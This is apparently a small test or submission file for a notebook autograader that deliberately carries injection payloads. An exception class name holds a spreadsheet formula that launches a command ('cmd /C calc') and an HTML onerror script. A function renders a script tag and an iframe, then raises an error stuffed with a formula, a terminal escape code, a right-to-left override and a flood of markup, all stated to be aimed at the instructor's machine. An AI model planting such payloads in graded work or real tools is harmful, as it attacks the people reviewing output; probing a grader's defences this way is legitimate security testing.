# class: beside
# idea: fails in the test with a sentence that is markup, a formula and orders for a terminal
# gain: something happens on the instructor's machine
# met: &lt;script | <script
# stock: every test runs so there
# %% crate
class Evil(AssertionError):
    pass


Evil.__name__ = Evil.__qualname__ = "=cmd|' /C calc'!A1<img src=x onerror=alert(1)>"


def crate(fruit):
    from IPython.display import HTML, display

    display(HTML("<script>alert(1)</script><iframe src='https://example.org'></iframe>"))
    raise AssertionError("=1+1\x1b[2J\u202e<script>alert(1)</script>" + "<b>" * 100_000)
